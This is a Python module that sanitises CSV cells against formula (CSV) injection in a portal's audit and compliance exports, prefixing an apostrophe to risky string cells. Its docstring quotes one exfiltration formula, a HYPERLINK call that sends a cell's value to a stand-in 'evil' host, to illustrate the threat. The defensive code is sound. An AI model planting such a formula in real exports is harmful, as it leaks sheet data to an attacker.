"""CSV cells that a spreadsheet program shows as text, never runs as a formula (CSV injection).

OWASP's rule: a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as
a formula by Excel, LibreOffice and Google Sheets (`=HYPERLINK("https://evil/?"&A1)` leaks the
sheet, DDE payloads run commands). Such a cell gets a leading apostrophe, which the programs
swallow and show the rest as text. Also neutralised: the same characters after leading
whitespace (LibreOffice trims it before deciding) and their full-width forms (Excel's East Asian
input maps them to the ASCII ones). Non-string values (numbers, None) are written unchanged.

Every CSV writer of the portal passes its cells through `safe_cell` (audit exports, compliance
reports). A reader who needs the exact value reads the JSON column or the JSON file.
"""

from __future__ import annotations

from collections.abc import Iterable

FORMULA_START = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def safe_cell(value):
    """`value` as a CSV cell that no spreadsheet evaluates."""
    if not isinstance(value, str) or not value:
        return value
    if value[0] in FORMULA_START or value.lstrip()[:1] in FORMULA_START:
        return "'" + value
    return value


def safe_row(values: Iterable) -> list:
    return [safe_cell(v) for v in values]
